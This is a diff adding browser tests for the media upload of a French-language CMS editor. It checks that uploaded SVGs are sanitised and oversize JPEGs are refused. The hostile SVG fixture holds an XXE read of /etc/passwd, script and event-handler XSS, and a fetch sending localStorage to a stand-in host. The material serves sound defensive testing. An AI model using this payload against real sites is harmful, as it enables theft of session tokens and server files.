@@ -17,6 +17,8 @@ import { startCmsProxy, type CmsProxy } from '../../scripts/lib/cms-proxy.ts';
 import { toolkitSchema } from '../../src/schemas/toolkit.ts';
 import { toEntry } from '../../src/lib/catalogue.ts';
 import { toolkitFacts } from '../../src/lib/toolkit-facts.ts';
+import { checkSvg } from '../../scripts/lib/validate/rules/media.ts';
+import { MEDIA_TYPES } from '../../src/lib/media-types.ts';
 
 let copy: RepoCopy;
 let proxy: CmsProxy;
@@ -26,6 +28,34 @@ let browser: RunningBrowser;
 const saves: string[] = [];
 
 const TOOLKITS = 'content/toolkits';
+const MEDIA = 'public/media';
+
+/** An SVG that would read the editors' tokens if it were served as it is. */
+const HOSTILE_SVG = `<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
+  <script>fetch('https://exemple.org/?' + JSON.stringify(localStorage))</script>
+  <style>@import url(https://exemple.org/x.css); .fond { fill: url(#degrade) }</style>
+  <linearGradient id="degrade"><stop offset="0" stop-color="#fc0"/></linearGradient>
+  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="/admin/"/></foreignObject>
+  <a xlink:href="javascript:alert(2)"><circle class="fond" cx="5" cy="5" r="4" onclick="alert(3)"/></a>
+  <image href="https://exemple.org/pixel.png" width="1" height="1"/>
+  <text>&secret;</text>
+</svg>
+`;
+
+/** Opens Decap's media library from the header, and a way to choose a file in it. */
+async function openMediaLibrary(): Promise<{ page: Page; problems: () => string[]; dialogs: string[] }> {
+  const { page, problems } = await openAdmin('/collections/toolkits');
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await page.getByRole('button', { name: 'Media', exact: true }).click();
+  await page.getByText('Téléverser une nouvelle ressource').waitFor();
+  return { page, problems, dialogs };
+}
 const NEW_SLUG = 'atelier-velo-reparer-ensemble';
 
 beforeAll(async () => {
@@ -275,6 +305,55 @@ describe('the online editor, with decap-server on a copy of the repository', () 
         .replace('\ntitle: La genèse\n', '\ntitle: La genèse de KPA-Cité\n')
         .replace('départ est clair', 'départ est simple'),
     );
+    expect(problems()).toEqual([]);
+    await page.close();
+  });
+});
+
+describe('uploads through the online editor', () => {
+  it('stores an uploaded SVG without its script, handlers, foreignObject, DOCTYPE or outside references', async () => {
+    const { page, problems, dialogs } = await openMediaLibrary();
+    await page
+      .locator('input[type="file"]')
+      .setInputFiles({ name: 'piege.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(HOSTILE_SVG) });
+    const stored = join(copy.root, MEDIA, 'piege.svg');
+    await expect.poll(() => existsSync(stored), { timeout: 15_000 }).toBe(true);
+    const text = readFileSync(stored, 'utf8');
+    // The drawing is still there (a stylesheet with an @import goes whole), and the gate of
+    // `npm run validate` finds nothing left.
+    expect(text).toContain('<circle class="fond" cx="5" cy="5" r="4"/>');
+    expect(text).toContain('<linearGradient id="degrade">');
+    expect(checkSvg(readFileSync(stored))).toEqual([]);
+    for (const gone of [
+      'script',
+      'onload',
+      'onclick',
+      'foreignObject',
+      'iframe',
+      'DOCTYPE',
+      'exemple.org',
+      'javascript:',
+    ]) {
+      expect(text).not.toContain(gone);
+    }
+    expect(dialogs).toEqual([]);
+    expect(problems()).toEqual([]);
+    await page.close();
+  });
+
+  it('refuses, in French and before anything is written, a photo over the limit of its type', async () => {
+    const { page, problems, dialogs } = await openMediaLibrary();
+    const photo = Buffer.alloc(MEDIA_TYPES.jpeg.maxBytes + 1);
+    photo.set([0xff, 0xd8, 0xff, 0xe0]);
+    await page
+      .locator('input[type="file"]')
+      .setInputFiles({ name: 'photo.jpg', mimeType: 'image/jpeg', buffer: photo });
+    await expect
+      .poll(() => dialogs)
+      .toEqual([
+        '« photo.jpg » est trop lourd (3,1 Mo, au plus 3 Mo pour un JPEG) : réduisez ses dimensions ou sa qualité, puis réessayez.',
+      ]);
+    expect(existsSync(join(copy.root, MEDIA, 'photo.jpg'))).toBe(false);
     expect(problems()).toEqual([]);
     await page.close();
   });
